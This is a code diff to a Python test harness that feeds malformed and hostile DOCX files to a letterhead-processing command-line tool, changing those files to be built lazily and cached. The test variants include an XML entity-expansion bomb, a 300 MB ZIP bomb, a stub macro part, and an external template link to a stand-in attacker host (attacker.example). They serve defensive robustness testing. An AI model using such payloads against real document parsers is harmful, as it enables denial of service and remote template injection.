@@ -14,6 +14,7 @@ from __future__ import annotations
 import argparse
 import contextlib
 import copy
+import functools
 import io
 import json
 import os
@@ -37,18 +38,28 @@ TEMPLATES = ROOT / "templates"
 SECONDS_PER_CASE = 20
 
 
+#: A file's content, or how to make it: costly contents (DOCX files, a ZIP bomb) are made
+#: when the case is run, not when it is drawn, so drawing many cases is cheap.
+Content = bytes | str | Callable[[], bytes | str]
+
+
 @dataclass
 class Case:
     """One run of the CLI: files to lay out in the case's folder, and the arguments."""
 
     name: str
-    files: dict[str, bytes | str] = field(default_factory=dict)
+    files: dict[str, Content] = field(default_factory=dict)
     args: list[str] = field(default_factory=list)
     env: dict[str, str] = field(default_factory=dict)
     #: Called with the case's folder after the files are laid out (links, FIFOs, folders).
     setup: Callable[[Path], None] | None = None
     #: Templates copied into ``templates/`` before the files (which may replace some).
     templates: bool = False
+
+    def file(self, name: str) -> bytes | str:
+        """The content of one of the case's files, made if it is made on demand."""
+        data = self.files[name]
+        return data() if callable(data) else data
 
 
 # --- answers files ------------------------------------------------------------------------
@@ -250,7 +261,9 @@ def _docx(parts: dict[str, bytes | str]) -> bytes:
     return buffer.getvalue()
 
 
+@functools.cache
 def _real_docx() -> bytes:
+    """A small real DOCX with a header (made once per process: python-docx is slow)."""
     from docx import Document
 
     buffer = io.BytesIO()
@@ -282,33 +295,42 @@ ENTITY_BOMB = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                '</w:document>')
 
 
+@functools.cache
+def _zip_bomb() -> bytes:
+    """300 MB of zeros in a small DOCX-looking ZIP (≈ 1 s to pack: made once per process)."""
+    return _docx({"[Content_Types].xml": b"<x/>", "word/big.bin": b"\0" * 300_000_000})
+
+
+def _edited(replace: dict[str, bytes | str | None]) -> Callable[[], bytes]:
+    """How to make the real DOCX with some parts replaced (``None``: removed)."""
+    return lambda: _with_parts(_real_docx(), replace)
+
+
 def _letterhead_case(rng: random.Random) -> Case:
-    base = _real_docx()
     variants: dict[str, Callable[[], bytes]] = {
         "text": lambda: b"not a docx at all",
         "empty": lambda: b"",
-        "truncated": lambda: base[: len(base) // 2],
-        "broken-xml": lambda: _with_parts(base, {"word/document.xml": "<w:document"}),
-        "no-sectpr": lambda: _with_parts(base, {"word/document.xml": (
+        "truncated": lambda: _real_docx()[: len(_real_docx()) // 2],
+        "broken-xml": _edited({"word/document.xml": "<w:document"}),
+        "no-sectpr": _edited({"word/document.xml": (
             '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
             'main"><w:body><w:p/></w:body></w:document>')}),
-        "no-styles": lambda: _with_parts(base, {"word/styles.xml": None}),
-        "no-document": lambda: _with_parts(base, {"word/document.xml": None}),
-        "entity-bomb": lambda: _with_parts(base, {"word/document.xml": ENTITY_BOMB}),
-        "zip-bomb": lambda: _docx({"[Content_Types].xml": b"<x/>", "word/big.bin":
-                                   b"\0" * 300_000_000}),
-        "docm": lambda: _with_parts(base, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
-        "external-template": lambda: _with_parts(base, {"word/_rels/settings.xml.rels": (
+        "no-styles": _edited({"word/styles.xml": None}),
+        "no-document": _edited({"word/document.xml": None}),
+        "entity-bomb": _edited({"word/document.xml": ENTITY_BOMB}),
+        "zip-bomb": _zip_bomb,
+        "docm": _edited({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
+        "external-template": _edited({"word/_rels/settings.xml.rels": (
             '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
             'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
             'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
             'Target="http://attacker.example/t.dotm" TargetMode="External"/>'
             '</Relationships>')}),
-        "good": lambda: base,
+        "good": _real_docx,
     }
     choice = rng.choice(list(variants))
     return Case(f"letterhead-{choice}", {"answers.yaml": _sample_text(rng),
-                                         "blank.docx": variants[choice]()},
+                                         "blank.docx": variants[choice]},
                 ["--stage", "approval", "--no-sheet-count", "--letterhead", "blank.docx"])
 
 
@@ -397,7 +419,8 @@ def run_case(case: Case, work: Path, seconds: int = SECONDS_PER_CASE) -> Outcome
 
     if case.templates:
         shutil.copytree(TEMPLATES, work / "templates")
-    for name, data in case.files.items():
+    for name in case.files:
+        data = case.file(name)
         path = work / name
         path.parent.mkdir(parents=True, exist_ok=True)
         if isinstance(data, str):
